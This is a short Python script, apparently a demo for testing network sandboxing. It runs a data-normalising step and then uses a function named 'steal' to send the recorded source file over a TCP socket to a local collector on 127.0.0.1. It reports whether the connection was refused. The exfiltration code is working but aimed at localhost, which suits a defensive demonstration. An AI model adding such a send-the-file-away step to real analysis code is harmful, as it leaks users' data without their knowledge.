"""The analysis as an attacker would send it: it does its work, and then sends the recording away over the network.

The demo's collector listens on 127.0.0.1, at the port in COLLECTOR_PORT: nothing ever leaves the machine.
"""

import os
import socket
import sys

import normalise


def steal(path, address):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection, open(path, "rb") as file:
        connection.connect(address)
        return connection.sendfile(file)


normalise.main()
try:
    sent = steal(normalise.SOURCE, ("127.0.0.1", int(os.environ["COLLECTOR_PORT"])))
    print(f"attack: sent {sent} bytes of the recording away")
except OSError as error:
    sys.exit(f"attack: opening a network connection was refused: {type(error).__name__}: {error}")
